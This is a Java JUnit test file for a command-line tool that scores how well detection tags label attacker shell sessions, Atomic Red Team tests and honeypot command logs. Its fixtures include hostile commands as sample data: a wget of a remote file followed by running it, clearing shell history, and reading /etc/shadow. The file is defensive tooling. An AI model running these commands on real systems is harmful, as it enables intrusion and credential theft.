package org.decnet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.decnet.cli.Cli.Ending;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** {@code score}, on sessions of our own. */
class ScoreTest {
  private static final JsonMapper JSON = new JsonMapper();

  private static final String SESSIONS =
      """
      {"id":"s1","family":"a","statements":["uname -a ;","whoami ;"],"labels":["Discovery","Discovery"]}
      {"id":"s2","family":"family","statements":["cd /tmp ;","wget http://192.0.2.7/x ;","sh x ;","history -c ;"],"labels":["Execution","Execution","Execution","Defense Evasion"],"extra":{"deep":[1]}}
      {"id":"s3","family":"family","statements":["uname -a ;"],"labels":["Harmless"]}
      """;

  private static final String TESTS =
      """
      {"technique_v18_1":"T1003.008","guid":"g1","name":"shadow","commands":["sudo cat /etc/shadow > /tmp/x"]}
      {"technique_v18_1":"T1082","guid":"g2","name":"clock","commands":["whoami"]}
      {"technique_v18_1":"T1082","guid":"g3","name":"nothing","commands":["true"],"platforms":["linux"]}
      """;

  @TempDir private Path folder;
  private Cli cli;

  @BeforeEach
  void prepare() {
    cli = new Cli(folder.resolve("home"));
  }

  private String write(String file, String text) throws IOException {
    return Files.writeString(folder.resolve(file), text).toString();
  }

  private static List<JsonNode> lines(Ending ending) {
    return ending.out().lines().map(JSON::readTree).toList();
  }

  private static JsonNode last(Ending ending) {
    return lines(ending.succeeded()).getLast();
  }

  @Test
  void statementsAreScoredAndTheLastLineHoldsTheFigures() throws IOException {
    JsonNode last = last(cli.run("score", "logprecis", write("s.jsonl", SESSIONS), "--json"));
    assertThat(last.get("statements").asInt()).isEqualTo(7);
    assertThat(last.get("accuracy").asDouble()).isEqualTo(0.8571);
    assertThat(last.get("fidelity").asDouble()).isEqualTo(0.6667);
    // Discovery 0.8, Execution 1, Defense Evasion 1, Harmless 0.
    assertThat(last.get("macro_f1").asDouble()).isEqualTo(0.7);
    assertThat(last.get("misses_label_varies").asInt()).isEqualTo(1);
    assertThat(last.get("misses_other").asInt()).isZero();
  }

  @Test
  void partsAreThoseOfTheFamilies() throws IOException {
    String file = write("s.jsonl", SESSIONS);
    assertThat(
            last(cli.run("score", "logprecis", file, "--half", "develop", "--json"))
                .get("statements")
                .asInt())
        .isEqualTo(2);
    assertThat(
            last(cli.run("score", "logprecis", file, "--half", "opened", "--json"))
                .get("statements")
                .asInt())
        .isEqualTo(5);
    assertThat(
            last(cli.run("score", "logprecis", file, "--half", "set-aside", "--json"))
                .get("statements")
                .asInt())
        .isZero();
    assertThat(cli.run("score", "logprecis", file, "--half", "other").code()).isEqualTo(2);
  }

  @Test
  void trivialPredictorsStandBesideTheTags() throws IOException {
    List<JsonNode> predictors =
        lines(cli.run("score", "logprecis", write("s.jsonl", SESSIONS), "--json").succeeded())
            .stream()
            .filter(line -> "predictor".equals(line.path("kind").asString()))
            .toList();
    assertThat(predictors)
        .extracting(line -> line.get("predictor").asString())
        .contains(
            "tags",
            "tags, develop",
            "tags, opened",
            "tags, set-aside",
            "first word, taught by develop, on the rest",
            "first word, taught by the rest, on develop",
            "always the most frequent label",
            "oracle without context");
    assertThat(predictors.getLast().get("accuracy").asDouble()).isEqualTo(0.8571);
  }

  @Test
  void missesAreListedWithTheirTagsWhenAskedFor() throws IOException {
    String file = write("s.jsonl", SESSIONS);
    List<JsonNode> misses =
        lines(cli.run("score", "logprecis", file, "--json", "--misses").succeeded()).stream()
            .filter(line -> "miss".equals(line.path("kind").asString()))
            .toList();
    assertThat(misses).hasSize(1);
    assertThat(misses.getFirst().get("session").asString()).isEqualTo("s3");
    assertThat(misses.getFirst().get("label").asString()).isEqualTo("Harmless");
    assertThat(misses.getFirst().get("label_varies").asBoolean()).isTrue();
    assertThat(misses.getFirst().get("tags").toString()).contains("T1082");
    assertThat(cli.run("score", "logprecis", file, "--misses").succeeded().out())
        .contains("s3 #1 (label varies) Harmless, predicted Discovery: uname -a ;")
        .contains("macro-F1 0.7000");
    assertThat(cli.run("score", "logprecis", file).succeeded().out()).doesNotContain("s3 #1");
  }

  @Test
  void groupsAndFamiliesAreShownWhenAskedFor() throws IOException {
    String out =
        cli.run(
                "score",
                "logprecis",
                write("s.jsonl", SESSIONS),
                "--by",
                "rule",
                "--families",
                "--json")
            .succeeded()
            .out();
    assertThat(out)
        .contains("{\"kind\":\"rule\",\"rule\":\"R0012\",\"tags\":1,\"right\":1,\"precision\":1.0}")
        .contains("{\"kind\":\"rule\",\"rule\":\"R0018\",\"tags\":2,\"right\":1,\"precision\":0.5}")
        .contains("\"family\":\"family\",\"half\":\"opened\"");
  }

  @Test
  void testsAreScoredByTechnique() throws IOException {
    Ending ending = cli.run("score", "atomic", write("t.jsonl", TESTS), "--json", "--misses");
    JsonNode last = last(ending);
    assertThat(last.get("tests").asInt()).isEqualTo(3);
    assertThat(last.get("any_tag").asInt()).isEqualTo(2);
    assertThat(last.get("right_technique").asInt()).isEqualTo(1);
    assertThat(last.get("right_technique_share").asDouble()).isEqualTo(0.3333);
    assertThat(ending.out())
        .contains("\"technique\":\"T1082\"")
        .contains("\"tests\":2,\"right\":0")
        .contains("\"name\":\"nothing\"")
        .doesNotContain("\"name\":\"shadow\"");
  }

  @Test
  void casesGiveFiguresForEachRule() throws IOException {
    write(
        "rule.yml",
        """
        title: Looks at the clock
        id: 0c5f9f5e-6a0f-5d0e-9d4b-3d1f3f0f7a11
        name: R9001
        logsource: { category: process_creation, product: linux }
        detection: { sel: { arg0: date }, condition: sel }
        decnet:
          version: 1
          emits: [{ tactic: TA0007, technique: T1124, confidence: 0.7 }]
          evidence: [command_text]
          last_reviewed: 2026-01-01
          next_review: 2027-01-01
        """);
    write("pack.yml", "name: mine\nrules: [rule.yml]\n");
    String path = folder.toString();
    assertThat(cli.run("score", "cases", path).succeeded().out()).contains("no data");
    write("rule.cases.yml", "R9001:\n  match: [{ command: date }, { command: uptime }]\n");
    List<JsonNode> lines = lines(cli.run("score", "cases", path, "--json").succeeded());
    assertThat(lines.getFirst().get("precision").asDouble()).isEqualTo(1);
    assertThat(lines.getFirst().get("recall").asDouble()).isEqualTo(0.5);
    assertThat(lines.getLast().toString())
        .isEqualTo("{\"rules\":1,\"cases\":2,\"failed\":1,\"rules_without_data\":0}");
  }

  @Test
  void distinctCommandsAreListedWithTheirTagsMostFrequentFirst() throws IOException {
    String log =
        write(
            "log.jsonl",
            """
            {"eventid":"cowrie.command.input","input":"true"}
            {"eventid":"cowrie.command.input","input":"uname -a"}
            {"eventid":"cowrie.command.input","input":"uname -a"}
            {"eventid":"cowrie.login.failed","input":"no command"}
            {"eventid":"cowrie.command.input","inp
            """);
    String list = write("list.txt", "\"CMD: uname -a\"\nwhoami\n\n\"something else\"\n");
    List<JsonNode> lines = lines(cli.run("score", "commands", log, list, "--json").succeeded());
    assertThat(lines.getFirst().get("command").asString()).isEqualTo("uname -a");
    assertThat(lines.getFirst().get("count").asInt()).isEqualTo(3);
    assertThat(lines.getFirst().get("tags").toString()).contains("T1082");
    assertThat(lines.getLast().toString())
        .isEqualTo("{\"commands\":5,\"distinct\":3,\"tagged\":2,\"untagged\":1,\"malformed\":2}");
    assertThat(cli.run("score", "commands", log, "--untagged").succeeded().out())
        .contains("1\ttrue")
        .doesNotContain("uname");
  }

  @Test
  void malformedLinesAreErrorsThatNameFileLineAndField() throws IOException {
    String good = SESSIONS.lines().findFirst().orElseThrow() + "\n";
    assertError(good + "{\"id\":\"x\"", "s.jsonl:2: not JSON");
    assertError(good + "[]", "s.jsonl:2: expected a JSON object");
    assertError(good + "{} {}", "s.jsonl:2: expected one JSON object");
    assertError(good + "{\"statements\":[\"a\"]}", "s.jsonl:2: field id: expected a text");
    assertError(
        good + "{\"id\":\"x\",\"statements\":[1]}", "s.jsonl:2: field statements: expected a list");
    assertError(
        good + "{\"id\":\"x\",\"statements\":[\"a\"],\"labels\":[\"Nope\"]}",
        "s.jsonl:2: field labels: there is no label 'Nope'");
    assertError(
        good + "{\"id\":\"x\",\"statements\":[\"a\"],\"labels\":[\"Other\",\"Other\"]}",
        "s.jsonl:2: field labels: expected 1, one a statement, not 2");
    assertError("\n", "holds no entries");
  }

  private void assertError(String text, String message) throws IOException {
    Ending ending = cli.run("score", "logprecis", write("s.jsonl", text), "--json");
    assertThat(ending.code()).isEqualTo(1);
    assertThat(ending.err()).contains(message);
  }

  @Test
  void wrongTechniquesAndMissingFilesAreErrors() throws IOException {
    Ending wrong =
        cli.run(
            "score",
            "atomic",
            write("t.jsonl", "{\"technique_v18_1\":\"T1\",\"commands\":[\"a\"]}"));
    assertThat(wrong.code()).isEqualTo(1);
    assertThat(wrong.err()).contains("t.jsonl:1: field technique_v18_1: 'T1'");
    assertThat(cli.run("score", "atomic", "none.jsonl").err()).contains("There is no none.jsonl");
    assertThat(cli.run("score").code()).isEqualTo(2);
    assertThat(cli.run("score", "logprecis", "--help").succeeded().out()).contains("--misses");
  }

  @Test
  void compressedFilesAreReadToo() throws IOException {
    Path file = folder.resolve("s.jsonl.gz");
    try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
      out.write(SESSIONS.getBytes(StandardCharsets.UTF_8));
    }
    assertThat(
            last(cli.run("score", "logprecis", file.toString(), "--json"))
                .get("statements")
                .asInt())
        .isEqualTo(7);
  }
}
